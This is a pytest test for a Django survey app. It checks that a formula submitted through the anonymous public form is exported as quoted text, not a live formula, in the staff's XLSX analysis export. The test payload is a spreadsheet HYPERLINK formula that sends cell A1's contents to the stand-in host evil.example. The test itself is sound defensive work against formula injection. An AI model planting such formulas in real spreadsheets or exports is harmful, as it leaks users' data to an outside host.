"""An answer typed as a formula on the anonymous survey page is text in the staff's XLSX export."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.feedback.conftest import valid_post

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'


def test_formula_answer_from_the_public_form_is_exported_as_text(client, survey, marketing_manager):
    form_url = reverse("feedback:form", args=[survey.token])
    client.get(form_url)
    assert client.post(form_url, valid_post(survey, text=PAYLOAD)).status_code == 302
    client.force_login(marketing_manager)
    content = client.get(reverse("feedback:analysis_xlsx", args=[survey.event_id])).content
    sheet = load_workbook(io.BytesIO(content)).worksheets[2]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == PAYLOAD]
    assert cells, "the answer is in the export, unchanged"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
